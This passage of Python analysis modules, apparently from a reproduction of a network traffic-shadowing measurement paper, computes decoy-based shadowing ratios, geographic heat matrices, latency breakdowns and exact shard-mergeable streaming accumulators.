        if record.vp_country == "CN":
            cn_paths.add(pair)
        else:
            global_paths.add(pair)
    return AnycastCaseStudy(
        destination=destination,
        cn_paths=len(cn_paths),
        cn_problematic=len(cn_paths & problematic_pairs),
        global_paths=len(global_paths),
        global_problematic=len(global_paths & problematic_pairs),
    )

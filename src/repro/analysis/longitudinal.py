"""Longitudinal analysis across Phase I rounds.

The paper's campaign cycles through its vantage points continuously for
two months; the landscape it reports is therefore an aggregate of many
passes.  With ``ExperimentConfig.phase1_rounds > 1``, this module checks
how stable the per-destination problematic ratios are from round to
round — a consistency property the single-figure presentation of the
paper implicitly relies on.
"""

from dataclasses import dataclass
from typing import Dict, List, Sequence, Set, Tuple

from repro.analysis.stats import total_variation
from repro.core.correlate import DecoyLedger, ShadowingEvent


@dataclass(frozen=True)
class RoundSummary:
    """Per-round landscape digest for one decoy protocol."""

    round_index: int
    decoys: int
    shadowed: int
    destination_ratios: Dict[str, float]

    @property
    def shadowed_share(self) -> float:
        return self.shadowed / self.decoys if self.decoys else 0.0


def per_round_summaries(
    ledger: DecoyLedger,
    events: Sequence[ShadowingEvent],
    protocol: str = "dns",
) -> List[RoundSummary]:
    """One digest per Phase I round."""
    sent: Dict[Tuple[int, str], int] = {}
    rounds: Set[int] = set()
    for record in ledger.records(phase=1):
        if record.protocol != protocol:
            continue
        key = (record.round_index, record.destination_name)
        sent[key] = sent.get(key, 0) + 1
        rounds.add(record.round_index)
    shadowed_domains: Dict[Tuple[int, str], Set[str]] = {}
    shadowed_per_round: Dict[int, Set[str]] = {}
    for event in events:
        record = event.decoy
        if record.phase != 1 or record.protocol != protocol:
            continue
        key = (record.round_index, record.destination_name)
        shadowed_domains.setdefault(key, set()).add(record.domain)
        shadowed_per_round.setdefault(record.round_index, set()).add(record.domain)
    summaries = []
    for round_index in sorted(rounds):
        ratios = {}
        decoys = 0
        for (index, destination), count in sent.items():
            if index != round_index:
                continue
            decoys += count
            hit = len(shadowed_domains.get((index, destination), set()))
            ratios[destination] = hit / count if count else 0.0
        summaries.append(RoundSummary(
            round_index=round_index,
            decoys=decoys,
            shadowed=len(shadowed_per_round.get(round_index, set())),
            destination_ratios=ratios,
        ))
    return summaries


def round_stability(summaries: Sequence[RoundSummary]) -> float:
    """Maximum total-variation distance between any round's destination
    distribution and the first round's.  Near zero = a stable landscape."""
    if len(summaries) < 2:
        return 0.0
    baseline = {
        name: ratio
        for name, ratio in summaries[0].destination_ratios.items()
        if ratio > 0
    }
    if not baseline:
        return 0.0
    worst = 0.0
    for summary in summaries[1:]:
        other = {
            name: ratio
            for name, ratio in summary.destination_ratios.items()
            if ratio > 0
        }
        if not other:
            worst = max(worst, 1.0)
            continue
        worst = max(worst, total_variation(baseline, other))
    return worst

"""Geographic views of the shadowing landscape (Figure 3's map form).

Figure 3 in the paper is a country-by-destination heat matrix.  This
module builds that matrix from the ledger and events, aggregates
countries into world regions, and renders a terminal heat map.
"""

from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Tuple

from repro.analysis.landscape import PathRatioRow, problematic_path_ratios
from repro.core.correlate import DecoyLedger, ShadowingEvent

# Coarse world regions for aggregation; anything unlisted lands in "Other".
REGIONS: Dict[str, Tuple[str, ...]] = {
    "North America": ("US", "CA", "MX"),
    "South America": ("BR", "AR", "CL", "CO", "PE"),
    "Europe": ("DE", "GB", "FR", "NL", "SE", "CH", "ES", "IT", "PL", "IE",
               "PT", "GR", "CZ", "AT", "BE", "HU", "RO", "BG", "RS", "UA",
               "NO", "DK", "FI", "IS", "LU", "MT", "CY", "EE", "LV", "LT",
               "SK", "SI", "HR", "AD", "MD", "AL", "RU", "TR"),
    "East Asia": ("CN", "JP", "KR", "TW", "HK", "MN"),
    "South/SE Asia": ("IN", "SG", "TH", "VN", "MY", "ID", "PH", "PK", "BD",
                      "LK", "NP", "MM", "KH", "LA"),
    "Middle East": ("IL", "AE", "SA", "QA", "GE", "AM", "AZ", "KZ", "UZ"),
    "Africa": ("ZA", "EG", "NG", "KE", "MA"),
    "Oceania": ("AU", "NZ"),
}


def region_of(country: str) -> str:
    for region, countries in REGIONS.items():
        if country in countries:
            return region
    return "Other"


@dataclass(frozen=True)
class HeatCell:
    """One cell of the country x destination matrix."""

    vp_country: str
    destination_name: str
    ratio: float
    paths: int


def cells_from_rows(rows: Sequence[PathRatioRow],
                    protocol: str = "dns",
                    min_paths: int = 1) -> List[HeatCell]:
    """Build the heat matrix cells from already-computed ratio rows.

    Shared by the batch path (:func:`country_destination_matrix`) and the
    streaming path, which produces its rows via
    ``landscape.problematic_path_ratios_from_accumulator``.
    """
    cells = []
    for row in rows:
        if row.protocol != protocol or row.paths_total < min_paths:
            continue
        cells.append(HeatCell(
            vp_country=row.vp_country,
            destination_name=row.destination_name,
            ratio=row.ratio,
            paths=row.paths_total,
        ))
    return cells


def country_destination_matrix(
    ledger: DecoyLedger,
    events: Sequence[ShadowingEvent],
    protocol: str = "dns",
    min_paths: int = 1,
) -> List[HeatCell]:
    """The Figure 3 matrix for one decoy protocol."""
    return cells_from_rows(problematic_path_ratios(ledger, events),
                           protocol=protocol, min_paths=min_paths)


def regional_ratios(cells: Sequence[HeatCell]) -> Dict[str, float]:
    """Problematic-path ratio aggregated to world regions."""
    totals: Dict[str, int] = {}
    problematic: Dict[str, float] = {}
    for cell in cells:
        region = region_of(cell.vp_country)
        totals[region] = totals.get(region, 0) + cell.paths
        problematic[region] = problematic.get(region, 0.0) + cell.ratio * cell.paths
    return {
        region: problematic.get(region, 0.0) / count
        for region, count in totals.items() if count
    }


_HEAT_GLYPHS = " .:-=+*#%@"


def heat_glyph(ratio: float) -> str:
    """One character per intensity decile."""
    if not 0.0 <= ratio <= 1.0:
        raise ValueError(f"ratio must be in [0, 1], got {ratio}")
    index = min(len(_HEAT_GLYPHS) - 1, int(ratio * len(_HEAT_GLYPHS)))
    return _HEAT_GLYPHS[index]


def render_heat_matrix(cells: Sequence[HeatCell],
                       destinations: Optional[Sequence[str]] = None,
                       max_countries: int = 20) -> str:
    """Country rows x destination columns, one glyph per cell."""
    if destinations is None:
        seen = {}
        for cell in cells:
            seen[cell.destination_name] = seen.get(cell.destination_name, 0.0) + cell.ratio
        destinations = [name for name, _ in
                        sorted(seen.items(), key=lambda item: -item[1])][:10]
    by_pair = {(cell.vp_country, cell.destination_name): cell for cell in cells}
    country_mass = {}
    for cell in cells:
        country_mass[cell.vp_country] = country_mass.get(cell.vp_country, 0) + cell.paths
    countries = [country for country, _ in
                 sorted(country_mass.items(), key=lambda item: -item[1])][:max_countries]
    lines = ["      " + " ".join(f"{name[:6]:>6}" for name in destinations)]
    for country in sorted(countries):
        glyphs = []
        for name in destinations:
            cell = by_pair.get((country, name))
            glyphs.append(f"{heat_glyph(cell.ratio) if cell else ' ':>6}")
        lines.append(f"{country:<5} " + " ".join(glyphs))
    lines.append(f"scale: '{_HEAT_GLYPHS}' = 0%..100% problematic paths")
    return "\n".join(lines)

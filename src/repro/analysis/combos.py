"""Figure 5: breakdown of DNS decoys per destination by protocol
combination and latency bucket."""

from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Tuple

from repro.core.correlate import DecoyLedger, ShadowingEvent
from repro.simkit.units import DAY, HOUR, MINUTE

# Figure 5 groups unsolicited requests into these latency buckets.
LATENCY_BUCKETS: Tuple[Tuple[str, float], ...] = (
    ("<1m", MINUTE),
    ("<1h", HOUR),
    ("<1d", DAY),
    (">=1d", float("inf")),
)


def bucket_of(delta: float) -> str:
    for label, ceiling in LATENCY_BUCKETS:
        if delta < ceiling:
            return label
    return LATENCY_BUCKETS[-1][0]


@dataclass(frozen=True)
class BreakdownRow:
    """One segment of a Figure 5 bar."""

    destination_name: str
    combo: str
    latency_bucket: str
    decoys: int
    share_of_sent: float
    """Fraction of all DNS decoys sent to this destination that triggered
    at least one unsolicited request with this combo in this bucket."""


def decoy_breakdown(
    ledger: DecoyLedger,
    events: Sequence[ShadowingEvent],
    protocol: str = "dns",
) -> List[BreakdownRow]:
    """Per destination: classify decoys by the combos/latencies they drew.

    A decoy contributes to every (combo, bucket) it produced at least one
    unsolicited request in, matching how the paper's stacked bars read.
    """
    sent: Dict[str, int] = {}
    for record in ledger.records(phase=1):
        if record.protocol == protocol:
            sent[record.destination_name] = sent.get(record.destination_name, 0) + 1
    per_key_decoys: Dict[Tuple[str, str, str], set] = {}
    for event in events:
        record = event.decoy
        if record.protocol != protocol or record.phase != 1:
            continue
        key = (record.destination_name, event.combo, bucket_of(event.delta))
        per_key_decoys.setdefault(key, set()).add(record.domain)
    rows: List[BreakdownRow] = []
    for key, decoys in sorted(per_key_decoys.items()):
        destination_name, combo, bucket = key
        total_sent = sent.get(destination_name, 0)
        rows.append(
            BreakdownRow(
                destination_name=destination_name,
                combo=combo,
                latency_bucket=bucket,
                decoys=len(decoys),
                share_of_sent=(len(decoys) / total_sent) if total_sent else 0.0,
            )
        )
    return rows


def decoy_breakdown_from_accumulator(accumulator,
                                     protocol: str = "dns") -> List[BreakdownRow]:
    """Figure 5 from a :class:`~repro.analysis.streaming.ComboAccumulator`.

    Cells arrive sorted by (destination, combo, bucket) — the same order
    the batch path produces — and the decoy sets merged exactly, so rows
    are bit-identical.
    """
    rows: List[BreakdownRow] = []
    for (destination_name, combo, bucket), decoys in accumulator.cells(protocol):
        total_sent = accumulator.sent(protocol, destination_name)
        rows.append(
            BreakdownRow(
                destination_name=destination_name,
                combo=combo,
                latency_bucket=bucket,
                decoys=len(decoys),
                share_of_sent=(len(decoys) / total_sent) if total_sent else 0.0,
            )
        )
    return rows


def shadowed_share(ledger: DecoyLedger, events: Sequence[ShadowingEvent],
                   destination_name: str, protocol: str = "dns") -> float:
    """Fraction of decoys to one destination that triggered anything
    unsolicited (e.g. the paper's ">99% of DNS decoys sent to Yandex")."""
    sent = sum(
        1
        for record in ledger.records(phase=1)
        if record.protocol == protocol and record.destination_name == destination_name
    )
    if sent == 0:
        return 0.0
    shadowed = {
        event.decoy.domain
        for event in events
        if event.decoy.protocol == protocol
        and event.decoy.destination_name == destination_name
        and event.decoy.phase == 1
    }
    return len(shadowed) / sent


def http_https_share(ledger: DecoyLedger, events: Sequence[ShadowingEvent],
                     destination_name: str) -> float:
    """Fraction of DNS decoys to one destination that drew unsolicited
    HTTP or HTTPS requests (paper: ~50% for Yandex and 114DNS)."""
    sent = sum(
        1
        for record in ledger.records(phase=1)
        if record.protocol == "dns" and record.destination_name == destination_name
    )
    if sent == 0:
        return 0.0
    decoys = {
        event.decoy.domain
        for event in events
        if event.decoy.protocol == "dns"
        and event.decoy.destination_name == destination_name
        and event.request.protocol in ("http", "https")
        and event.decoy.phase == 1
    }
    return len(decoys) / sent


def shadowed_share_from_accumulator(accumulator, destination_name: str,
                                    protocol: str = "dns") -> float:
    """Streaming mirror of :func:`shadowed_share`."""
    sent = accumulator.sent(protocol, destination_name)
    if sent == 0:
        return 0.0
    return len(accumulator.decoy_union(protocol, destination_name)) / sent


def http_https_share_from_accumulator(accumulator,
                                      destination_name: str) -> float:
    """Streaming mirror of :func:`http_https_share`.

    Combo labels "DNS-HTTP"/"DNS-HTTPS" are exactly the DNS-decoy events
    whose request protocol is http/https, so the union over those cells
    equals the batch decoy set.
    """
    sent = accumulator.sent("dns", destination_name)
    if sent == 0:
        return 0.0
    decoys = accumulator.decoy_union("dns", destination_name,
                                     combos=("DNS-HTTP", "DNS-HTTPS"))
    return len(decoys) / sent

"""Streaming analysis: shard-mergeable accumulators for every artifact.

The batch analyses (:mod:`repro.analysis.temporal`, ``combos``,
``origins``, ``landscape``, ``payloads``, ``landscape``-derived
geography) re-scan the full correlation output on every call; a report
over a 61-day log therefore costs a full pass per figure even though the
sharded executor already streamed every record once.  This module keeps
the batch code as the reference implementation and adds an *exact*
streaming mirror: a family of accumulator objects that

* consume :class:`~repro.core.correlate.ShadowingEvent` /
  :class:`~repro.core.correlate.DecoyRecord` /
  :class:`~repro.core.phase2.ObserverLocation` records one at a time,
* support ``merge(other)`` with the same per-field policy discipline as
  :mod:`repro.telemetry.registry` (sums for partitioned counts,
  set unions for distinct-entity sets, assert-same for replayed
  parameters),
* serialize to canonical JSON-able snapshots that ride the existing
  worker pipe and checkpoint files.

Exactness contract
------------------

For any seed and any shard layout, every artifact derived from a merged
:class:`AnalysisState` is *bit-identical* (not approximately equal) to
the batch implementation run over the merged correlation — enforced by
``tests/test_streaming_analysis.py``.  Three properties make this
possible:

1. **Distinct-entity semantics.**  Every batch share is a ratio of set
   sizes or partitioned counts; the accumulators store the sets/counts
   themselves, so merged unions/sums reproduce the exact numerators and
   denominators (and therefore the exact float divisions).
2. **Order-free state.**  CDFs sort their samples at snapshot/render
   time, and every ranking the render applies uses content tie-breakers,
   so identical multisets give identical artifacts regardless of the
   order shards merged in (``merge`` is associative and commutative).
3. **Shard-local correlation.**  All honeypot log entries bearing a
   given decoy's data are produced by observers in the shard that owns
   the decoy's (VP, destination) pair, so per-shard correlation
   partitions the merged correlation exactly (see
   :mod:`repro.core.shard`).

Snapshots are canonical: keys sorted, sets emitted as sorted lists, all
mappings encoded as pair lists (JSON objects only allow string keys).
``AnalysisState.digest()`` hashes the canonical form, so equal states
have equal digests.
"""

import hashlib
import json
from typing import Dict, Iterable, List, Optional, Sequence, Set, Tuple

from repro.analysis.combos import bucket_of
from repro.simkit.units import HOUR

GROUP_PROTOCOLS: Tuple[str, ...] = ("http", "tls")
"""Decoy protocols the observer-group accumulator tracks (Section 5.2
analyzes HTTP/TLS shadowing only; DNS events would bloat shard payloads
for an artifact that never reads them)."""


class AccumulatorMergeError(ValueError):
    """Two accumulators disagree on a merge="same" parameter."""


def _sorted_pairs(mapping: Dict) -> List[list]:
    """Canonical pair-list encoding of a tuple-keyed mapping."""
    return [[list(key), value] for key, value in sorted(mapping.items())]


def _sorted_set_pairs(mapping: Dict) -> List[list]:
    return [[list(key), sorted(values)] for key, values in sorted(mapping.items())]


def _merge_counts(target: Dict, source: Dict) -> None:
    for key, count in source.items():
        target[key] = target.get(key, 0) + count


def _merge_sets(target: Dict, source: Dict) -> None:
    for key, values in source.items():
        target.setdefault(key, set()).update(values)


class CdfAccumulator:
    """Delay samples for the Figure 4/7 retention CDFs.

    State is the exact multiset of per-event deltas, keyed by
    (decoy protocol, destination kind, destination name); merge is
    concatenation.  Samples sort at snapshot/render time, so a merged
    accumulator yields the same sorted tuple — hence the same
    :class:`~repro.analysis.temporal.Cdf` — as the serial one.
    """

    def __init__(self):
        self._samples: Dict[Tuple[str, str, str], List[float]] = {}

    def observe(self, event) -> None:
        decoy = event.decoy
        key = (decoy.protocol, decoy.destination_kind, decoy.destination_name)
        self._samples.setdefault(key, []).append(event.delta)

    def merge(self, other: "CdfAccumulator") -> None:
        for key, samples in other._samples.items():
            self._samples.setdefault(key, []).extend(samples)

    def deltas(self, decoy_protocols: Optional[Sequence[str]] = None,
               destination_kinds: Optional[Sequence[str]] = None,
               include_names: Optional[Sequence[str]] = None,
               exclude_names: Sequence[str] = ()) -> List[float]:
        """All samples matching the given filters (unsorted)."""
        protocols = set(decoy_protocols) if decoy_protocols is not None else None
        kinds = set(destination_kinds) if destination_kinds is not None else None
        included = set(include_names) if include_names is not None else None
        excluded = set(exclude_names)
        values: List[float] = []
        for (protocol, kind, name), samples in self._samples.items():
            if protocols is not None and protocol not in protocols:
                continue
            if kinds is not None and kind not in kinds:
                continue
            if included is not None and name not in included:
                continue
            if name in excluded:
                continue
            values.extend(samples)
        return values

    def snapshot(self) -> dict:
        return {"samples": [[list(key), sorted(samples)]
                            for key, samples in sorted(self._samples.items())]}

    @classmethod
    def from_snapshot(cls, data: dict) -> "CdfAccumulator":
        acc = cls()
        for key, samples in data["samples"]:
            acc._samples[tuple(key)] = list(samples)
        return acc


class ComboAccumulator:
    """Figure 5 state: sends per destination and decoys per
    (combo, latency bucket).

    ``sent`` counts partition across shards (each decoy is registered by
    exactly one shard) and merge by sum; the per-cell *decoy domain sets*
    merge by union, which is what makes the "a decoy contributes once per
    (combo, bucket) it appeared in" semantics exact across shards.
    """

    def __init__(self):
        self._sent: Dict[Tuple[str, str], int] = {}
        self._decoys: Dict[Tuple[str, str, str, str], Set[str]] = {}

    def observe_decoy(self, record) -> None:
        if record.phase != 1:
            return
        key = (record.protocol, record.destination_name)
        self._sent[key] = self._sent.get(key, 0) + 1

    def observe(self, event) -> None:
        record = event.decoy
        if record.phase != 1:
            return
        key = (record.protocol, record.destination_name, event.combo,
               bucket_of(event.delta))
        self._decoys.setdefault(key, set()).add(record.domain)

    def merge(self, other: "ComboAccumulator") -> None:
        _merge_counts(self._sent, other._sent)
        _merge_sets(self._decoys, other._decoys)

    def sent(self, protocol: str, destination_name: str) -> int:
        return self._sent.get((protocol, destination_name), 0)

    def cells(self, protocol: str) -> List[Tuple[Tuple[str, str, str], Set[str]]]:
        """((destination, combo, bucket), decoy set) for one decoy
        protocol, sorted by key — the Figure 5 row order."""
        return sorted(
            ((key[1], key[2], key[3]), decoys)
            for key, decoys in self._decoys.items() if key[0] == protocol
        )

    def decoy_union(self, protocol: str, destination_name: str,
                    combos: Optional[Sequence[str]] = None) -> Set[str]:
        """Distinct decoys to one destination across matching cells."""
        wanted = set(combos) if combos is not None else None
        union: Set[str] = set()
        for (decoy_protocol, name, combo, _), decoys in self._decoys.items():
            if decoy_protocol != protocol or name != destination_name:
                continue
            if wanted is not None and combo not in wanted:
                continue
            union |= decoys
        return union

    def snapshot(self) -> dict:
        return {"sent": _sorted_pairs(self._sent),
                "decoys": _sorted_set_pairs(self._decoys)}

    @classmethod
    def from_snapshot(cls, data: dict) -> "ComboAccumulator":
        acc = cls()
        for key, count in data["sent"]:
            acc._sent[tuple(key)] = count
        for key, decoys in data["decoys"]:
            acc._decoys[tuple(key)] = set(decoys)
        return acc


class OriginAsAccumulator:
    """Origin/observer network state: Figure 6, Table 3, Section 5.2,
    and the blocklist rates.

    Origin ASNs and blocklist membership are resolved *at observe time*
    (the worker holds the IP directory and blocklist), so rendering a
    restored snapshot needs neither.  Events count by sum; observer and
    origin addresses live in sets so distinct-address shares merge
    exactly; ``observer_of`` keys are (VP, destination, protocol) —
    owned by exactly one shard — and merge with assert-same discipline.
    """

    def __init__(self):
        self._origin_counts: Dict[Tuple[str, str, int], int] = {}
        """(destination name, request protocol, origin ASN) -> events."""
        self._addresses: Dict[Tuple[str, str], Set[str]] = {}
        """(request protocol, decoy protocol) -> distinct origin addrs."""
        self._listed: Dict[Tuple[str, str], Set[str]] = {}
        """Subset of ``_addresses`` on the blocklist."""
        self._observers: Dict[Tuple[str, int], Set[str]] = {}
        """(decoy protocol, observer ASN) -> distinct observer addrs."""
        self._observer_country: Dict[str, str] = {}
        self._observer_of: Dict[Tuple[str, str, str], int] = {}
        """(vp_id, destination address, protocol) -> observer ASN."""
        self._group_combos: Dict[Tuple[str, str, str, str], int] = {}
        """(vp_id, destination, decoy protocol, combo) -> events."""
        self._group_origin_asns: Dict[Tuple[str, str, str, Optional[int]], int] = {}
        """(vp_id, destination, decoy protocol, origin ASN) -> events."""

    def observe(self, event, directory, blocklist) -> None:
        decoy = event.decoy
        address = event.origin_address
        pair = (event.request.protocol, decoy.protocol)
        self._addresses.setdefault(pair, set()).add(address)
        if address in blocklist:
            self._listed.setdefault(pair, set()).add(address)
        asn = directory.asn_of(address)
        if decoy.protocol == "dns" and asn is not None:
            key = (decoy.destination_name, event.request.protocol, asn)
            self._origin_counts[key] = self._origin_counts.get(key, 0) + 1
        if decoy.protocol in GROUP_PROTOCOLS:
            path = (decoy.vp_id, decoy.destination_address, decoy.protocol)
            combo_key = path + (event.combo,)
            self._group_combos[combo_key] = self._group_combos.get(combo_key, 0) + 1
            asn_key = path + (asn,)
            self._group_origin_asns[asn_key] = self._group_origin_asns.get(asn_key, 0) + 1

    def observe_location(self, location) -> None:
        if location.observer_address is not None and location.observer_asn is not None:
            self._observers.setdefault(
                (location.protocol, location.observer_asn), set()
            ).add(location.observer_address)
        if location.observer_address is not None and location.observer_country:
            self._observer_country[location.observer_address] = location.observer_country
        if location.observer_asn is not None:
            key = (location.vp_id, location.destination_address, location.protocol)
            existing = self._observer_of.get(key)
            if existing is not None and existing != location.observer_asn:
                raise AccumulatorMergeError(
                    f"conflicting observer ASN for path {key}: "
                    f"{existing} != {location.observer_asn}"
                )
            self._observer_of[key] = location.observer_asn

    def merge(self, other: "OriginAsAccumulator") -> None:
        _merge_counts(self._origin_counts, other._origin_counts)
        _merge_sets(self._addresses, other._addresses)
        _merge_sets(self._listed, other._listed)
        _merge_sets(self._observers, other._observers)
        for address, country in other._observer_country.items():
            existing = self._observer_country.get(address)
            if existing is not None and existing != country:
                raise AccumulatorMergeError(
                    f"observer {address} located in both {existing} and {country}"
                )
            self._observer_country[address] = country
        for key, asn in other._observer_of.items():
            existing = self._observer_of.get(key)
            if existing is not None and existing != asn:
                raise AccumulatorMergeError(
                    f"conflicting observer ASN for path {key}: {existing} != {asn}"
                )
            self._observer_of[key] = asn
        _merge_counts(self._group_combos, other._group_combos)
        _merge_counts(self._group_origin_asns, other._group_origin_asns)

    # -- queries used by the from_accumulator constructors ----------------

    def origin_counts(self) -> Dict[Tuple[str, str, int], int]:
        return dict(self._origin_counts)

    def blocklist_rate(self, request_protocol: Optional[str] = None,
                       decoy_protocol: Optional[str] = None) -> float:
        addresses: Set[str] = set()
        listed: Set[str] = set()
        for (req_proto, dec_proto), values in self._addresses.items():
            if request_protocol is not None and req_proto != request_protocol:
                continue
            if decoy_protocol is not None and dec_proto != decoy_protocol:
                continue
            addresses |= values
            listed |= self._listed.get((req_proto, dec_proto), set())
        if not addresses:
            return 0.0
        return len(listed) / len(addresses)

    def observer_sets(self) -> Dict[Tuple[str, int], Set[str]]:
        return {key: set(values) for key, values in self._observers.items()}

    def observer_countries(self) -> Dict[str, str]:
        return dict(self._observer_country)

    def group_state(self, protocols: Sequence[str]) -> Tuple[
            Dict[Tuple[str, str, str], int],
            Dict[Tuple[str, str, str], Dict[str, int]],
            Dict[Tuple[str, str, str], Dict[Optional[int], int]]]:
        """(observer_of, per-path combo counts, per-path origin-ASN
        counts) restricted to the given decoy protocols."""
        unsupported = set(protocols) - set(GROUP_PROTOCOLS)
        if unsupported:
            raise ValueError(
                f"observer groups only accumulate {GROUP_PROTOCOLS}; "
                f"cannot render {sorted(unsupported)}"
            )
        wanted = set(protocols)
        observer_of = {key: asn for key, asn in self._observer_of.items()
                       if key[2] in wanted}
        combos: Dict[Tuple[str, str, str], Dict[str, int]] = {}
        for (vp_id, destination, protocol, combo), count in self._group_combos.items():
            if protocol in wanted:
                combos.setdefault((vp_id, destination, protocol), {})[combo] = count
        origins: Dict[Tuple[str, str, str], Dict[Optional[int], int]] = {}
        for (vp_id, destination, protocol, asn), count in self._group_origin_asns.items():
            if protocol in wanted:
                origins.setdefault((vp_id, destination, protocol), {})[asn] = count
        return observer_of, combos, origins

    def snapshot(self) -> dict:
        return {
            "origin_counts": _sorted_pairs(self._origin_counts),
            "addresses": _sorted_set_pairs(self._addresses),
            "listed": _sorted_set_pairs(self._listed),
            "observers": _sorted_set_pairs(self._observers),
            "observer_country": sorted(self._observer_country.items()),
            "observer_of": _sorted_pairs(self._observer_of),
            "group_combos": _sorted_pairs(self._group_combos),
            "group_origin_asns": [
                [list(key), value]
                for key, value in sorted(
                    self._group_origin_asns.items(),
                    key=lambda item: (item[0][:3], item[0][3] is not None, item[0][3] or 0),
                )
            ],
        }

    @classmethod
    def from_snapshot(cls, data: dict) -> "OriginAsAccumulator":
        acc = cls()
        for key, count in data["origin_counts"]:
            acc._origin_counts[tuple(key)] = count
        for key, values in data["addresses"]:
            acc._addresses[tuple(key)] = set(values)
        for key, values in data["listed"]:
            acc._listed[tuple(key)] = set(values)
        for key, values in data["observers"]:
            acc._observers[tuple(key)] = set(values)
        acc._observer_country = dict(data["observer_country"])
        for key, asn in data["observer_of"]:
            acc._observer_of[tuple(key)] = asn
        for key, count in data["group_combos"]:
            acc._group_combos[tuple(key)] = count
        for key, count in data["group_origin_asns"]:
            acc._group_origin_asns[tuple(key)] = count
        return acc


class MultiUseAccumulator:
    """Section 5.1: late unsolicited requests per decoy.

    ``after`` is a replayed parameter — every shard must run with the
    same threshold, so merge asserts equality (merge="same") instead of
    guessing.
    """

    def __init__(self, after: float = HOUR):
        self.after = after
        self._late: Dict[Tuple[str, str], int] = {}
        """(decoy protocol, decoy domain) -> requests with delta > after."""

    def observe(self, event) -> None:
        if event.delta > self.after:
            key = (event.decoy.protocol, event.decoy.domain)
            self._late[key] = self._late.get(key, 0) + 1

    def merge(self, other: "MultiUseAccumulator") -> None:
        if self.after != other.after:
            raise AccumulatorMergeError(
                f"multi-use thresholds disagree: {self.after} != {other.after}"
            )
        _merge_counts(self._late, other._late)

    def late_counts(self, protocol: str) -> Dict[str, int]:
        return {domain: count for (decoy_protocol, domain), count
                in self._late.items() if decoy_protocol == protocol}

    def snapshot(self) -> dict:
        return {"after": self.after, "late": _sorted_pairs(self._late)}

    @classmethod
    def from_snapshot(cls, data: dict) -> "MultiUseAccumulator":
        acc = cls(after=data["after"])
        for key, count in data["late"]:
            acc._late[tuple(key)] = count
        return acc


class LandscapeAccumulator:
    """Figure 3 path ratios, Table 2 hop table, and destination shares.

    Paths are (VP, destination address) pairs; each pair is owned by one
    shard, so the total/problematic sets partition and merge by union.
    The hop table and located/at-destination tallies are plain
    partitioned counts.
    """

    def __init__(self):
        self._totals: Dict[Tuple[str, str, str, str], Set[Tuple[str, str]]] = {}
        """(vp country, destination name, protocol, destination country)
        -> {(vp_id, destination address)} with at least one Phase I decoy."""
        self._problematic: Dict[Tuple[str, str, str, str], Set[Tuple[str, str]]] = {}
        self._hops: Dict[Tuple[str, int], int] = {}
        """(protocol, normalized hop 1-10) -> located observer count."""
        self._located: Dict[str, int] = {}
        self._at_destination: Dict[str, int] = {}

    def observe_decoy(self, record) -> None:
        if record.phase != 1:
            return
        key = (record.vp_country, record.destination_name, record.protocol,
               record.destination_country)
        self._totals.setdefault(key, set()).add(
            (record.vp_id, record.destination_address))

    def observe(self, event) -> None:
        record = event.decoy
        if record.phase != 1:
            return
        key = (record.vp_country, record.destination_name, record.protocol,
               record.destination_country)
        self._problematic.setdefault(key, set()).add(
            (record.vp_id, record.destination_address))

    def observe_location(self, location) -> None:
        normalized = location.normalized_hop()
        if normalized is not None:
            key = (location.protocol, normalized)
            self._hops[key] = self._hops.get(key, 0) + 1
        if location.located:
            self._located[location.protocol] = (
                self._located.get(location.protocol, 0) + 1)
            if location.at_destination:
                self._at_destination[location.protocol] = (
                    self._at_destination.get(location.protocol, 0) + 1)

    def merge(self, other: "LandscapeAccumulator") -> None:
        _merge_sets(self._totals, other._totals)
        _merge_sets(self._problematic, other._problematic)
        _merge_counts(self._hops, other._hops)
        _merge_counts(self._located, other._located)
        _merge_counts(self._at_destination, other._at_destination)

    def path_sets(self, group_by_vp_country: bool = True) -> Tuple[
            Dict[Tuple[str, str, str, str], Set[Tuple[str, str]]],
            Dict[Tuple[str, str, str, str], Set[Tuple[str, str]]]]:
        """(totals, problematic) path-pair sets, optionally collapsed to
        the "ALL" VP grouping.  Collapsing unions the per-country sets;
        the pairs are disjoint across VP countries (a VP has one
        country), so the union size equals the batch recount."""
        if group_by_vp_country:
            return ({key: set(paths) for key, paths in self._totals.items()},
                    {key: set(paths) for key, paths in self._problematic.items()})
        totals: Dict[Tuple[str, str, str, str], Set[Tuple[str, str]]] = {}
        problematic: Dict[Tuple[str, str, str, str], Set[Tuple[str, str]]] = {}
        for source, target in ((self._totals, totals),
                               (self._problematic, problematic)):
            for (_, name, protocol, country), paths in source.items():
                key = ("ALL", name, protocol, country)
                target.setdefault(key, set()).update(paths)
        return totals, problematic

    def hop_counts(self) -> Dict[str, Dict[int, int]]:
        table: Dict[str, Dict[int, int]] = {}
        for (protocol, hop), count in self._hops.items():
            table.setdefault(protocol, {})[hop] = count
        return table

    def destination_share(self, protocol: str) -> float:
        located = self._located.get(protocol, 0)
        if not located:
            return 0.0
        return self._at_destination.get(protocol, 0) / located

    def snapshot(self) -> dict:
        return {
            "totals": _sorted_set_pairs(self._totals),
            "problematic": _sorted_set_pairs(self._problematic),
            "hops": _sorted_pairs(self._hops),
            "located": sorted(self._located.items()),
            "at_destination": sorted(self._at_destination.items()),
        }

    @classmethod
    def from_snapshot(cls, data: dict) -> "LandscapeAccumulator":
        acc = cls()
        for key, paths in data["totals"]:
            acc._totals[tuple(key)] = {tuple(pair) for pair in paths}
        for key, paths in data["problematic"]:
            acc._problematic[tuple(key)] = {tuple(pair) for pair in paths}
        for key, count in data["hops"]:
            acc._hops[tuple(key)] = count
        acc._located = dict(data["located"])
        acc._at_destination = dict(data["at_destination"])
        return acc


class IncentiveAccumulator:
    """Section 5.1/5.2 probing incentives over unsolicited HTTP(S)
    requests: payload verdicts, path popularity, origin blocklist rates.

    Verdicts are classified at observe time (the worker holds the
    signature database context), keyed by decoy protocol so the render
    can reproduce any ``decoy_protocol`` filter of the batch function.
    """

    def __init__(self):
        self._verdicts: Dict[Tuple[str, str], int] = {}
        """(decoy protocol, verdict name) -> requests."""
        self._paths: Dict[Tuple[str, str], int] = {}
        self._origins: Dict[Tuple[str, str], Set[str]] = {}
        """(decoy protocol, request protocol) -> distinct origin addrs."""
        self._listed: Dict[Tuple[str, str], Set[str]] = {}

    def observe(self, event, blocklist) -> None:
        from repro.intel.exploitdb import check_payload

        if event.request.protocol not in ("http", "https"):
            return
        decoy_protocol = event.decoy.protocol
        path = event.request.path or "/"
        verdict_key = (decoy_protocol, check_payload(path).name)
        self._verdicts[verdict_key] = self._verdicts.get(verdict_key, 0) + 1
        path_key = (decoy_protocol, path)
